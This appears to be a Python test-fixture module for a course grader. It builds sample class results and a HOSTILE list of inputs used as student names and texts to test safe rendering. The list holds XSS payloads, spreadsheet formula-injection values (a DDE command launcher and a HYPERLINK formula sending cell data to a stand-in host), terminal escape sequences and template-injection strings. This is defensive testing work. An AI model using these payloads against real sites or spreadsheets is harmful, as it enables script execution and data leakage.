"""Classes for the tests of outputs: hostile names, every kind of verdict."""

from __future__ import annotations

from grader.classroom.assignment import RequestedExercise
from grader.classroom.results import ClassResults, SubmissionRow
from grader.exercise.verdict import Bound, CaseVerdict, ExerciseVerdict, RankRow, Status
from headcount.core.verdict import Diagnosis, Site, Traffic, Wait

#: What must not do anything, anywhere.
HOSTILE = (
    "<script>document.title = 'owned'</script>",
    "</script><script>document.title = 'owned'</script>",
    "</style><img src=x onerror=\"document.title = 'owned'\">",
    "'\" onmouseover=\"document.title = 'owned'\" x='",
    '=HYPERLINK("http://x.example/?" & A1)',
    "=cmd|'/c calc'!A0",
    "  =1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "a;=1+1",
    'a" , "=1+1',
    "\x1b[31mred\x1b]0;owned\x07",
    'quote " comma , semicolon ; line\nbreak',
    "lone \ud800 surrogate",
    "Ada\u202eecalevoL",
    "separators \u2028 and \u2029",
    "{{ 7 * 7 }} {% for %} ${7*7}",
    "Zoë Nguyễn 名前 محمد",
    "",
)

ASKED = (
    RequestedExercise("broadcast", "02_broadcast", 1.0),
    RequestedExercise("exchange", "01_point_to_point", 2.0),
    RequestedExercise("barrier", "09_barrier", 1.0),
)

#: Of all verdicts here; nobody may read it on a page for students.
SEED = 918273645546372819


def passed(asked: RequestedExercise = ASKED[0], seconds: float = 0.2) -> ExerciseVerdict:
    return ExerciseVerdict(
        asked.name, asked.chapter, Status.PASSED, asked.points, asked.points,
        seconds=seconds, seed=SEED,
        cases=(
            CaseVerdict("float32 7", 4, Status.PASSED, traffic=Traffic(3, 84, 84, 3)),
            CaseVerdict("messages", 4, Status.PASSED, bounds=(Bound("messages", 3, "=", 3),)),
        ),
    )  # fmt: skip


def failed(
    text: str,
    asked: RequestedExercise = ASKED[0],
    score: float = 0.0,
    diagnosis: Diagnosis = Diagnosis.WRONG_VALUE,
) -> ExerciseVerdict:
    """A wrong answer, with a text of the student's wherever there can be one."""
    waits = tuple(Wait(rank, (1 - rank,), text, Site(text, 14), "send") for rank in (0, 1))
    return ExerciseVerdict(
        asked.name, asked.chapter, Status.FAILED, score, asked.points, diagnosis,
        f"2 ranks: {text}", f"Try this: {text}", 0.1, SEED,
        cases=(
            CaseVerdict(
                f"first {text}", 2, Status.FAILED, diagnosis, f"rank 0: {text}", 0,
                Site("cell 3", 14), Traffic(3, 84, 84, 3),
                by_rank=(RankRow(0, "[1.0]", text, False),),
                detail=(f"rank 0 waits {text}",), output=(text, ""),
                waits=waits if diagnosis is Diagnosis.DEADLOCK else (),
                cycle=(0, 1) if diagnosis is Diagnosis.DEADLOCK else (),
            ),
        ),
    )  # fmt: skip


def without_points(
    status: Status, text: str, asked: RequestedExercise = ASKED[2]
) -> ExerciseVerdict:
    return ExerciseVerdict(
        asked.name, asked.chapter, status, 0.0, asked.points, message=text, seed=SEED
    )


def hostile_class() -> ClassResults:
    """Every hostile text as a name and as whatever else a student can write."""
    rows = []
    for number, text in enumerate(HOSTILE):
        first = failed(text, score=0.5) if number % 2 else failed(text)
        second = failed(text, ASKED[1], diagnosis=Diagnosis.DEADLOCK)
        earlier = {first.name: passed()}
        rows.append(
            SubmissionRow(
                f"h{number}", text, text, text, (first, second), earlier, (f"{text}.ipynb",)
            )
        )
    return ClassResults("Week 2 " + HOSTILE[0], "2026-01-02T03:04:05+00:00", tuple(rows), ASKED)


def small_class() -> ClassResults:
    """One row of every kind."""
    everything = (passed(), passed(ASKED[1]), passed(ASKED[2], 3.5))
    rows = (
        SubmissionRow("ada", "Ada Lovelace", "ada@example.edu", "101", everything),
        SubmissionRow(
            "bob", "Bob", "bob@example.edu", "102",
            (
                failed("no", score=0.25),
                failed("both wait", ASKED[1], diagnosis=Diagnosis.DEADLOCK),
                without_points(Status.SKIPPED, "needs a GPU"),
            ),
            {"broadcast": passed(), "exchange": failed("both wait", ASKED[1],
                                                       diagnosis=Diagnosis.DEADLOCK)},
            ("bob.ipynb: cell 3 does not parse",),
        ),
        SubmissionRow(
            "cyd", "Cyd", None, "103", (passed(), without_points(Status.ERROR, "no space left")),
        ),
        SubmissionRow("dee", "Dee", None, None, fault="the sandbox could not be started"),
        SubmissionRow("eve", "Eve", "eve@example.edu", None, ()),
        SubmissionRow("fay", "Fay, Gus", None, "106", (passed(),), unsafe=True),
    )  # fmt: skip
    return ClassResults("Week 2", "2026-01-02T03:04:05+00:00", rows, ASKED)


def large_class(students: int, exercises: int) -> ClassResults:
    """Many rows, and as many columns."""
    course = tuple(
        RequestedExercise(f"exercise_{i}", f"{i // 4:02d}_chapter", 1.0) for i in range(exercises)
    )
    rows = []
    for s in range(students):
        done = [
            passed(asked) if (s * 7 + i) % 5 else failed("no", asked)
            for i, asked in enumerate(course)
        ]
        rows.append(SubmissionRow(f"s{s}", f"Student {s}", exercises=tuple(done)))
    return ClassResults("Many", "2026-01-02T03:04:05+00:00", tuple(rows), course)
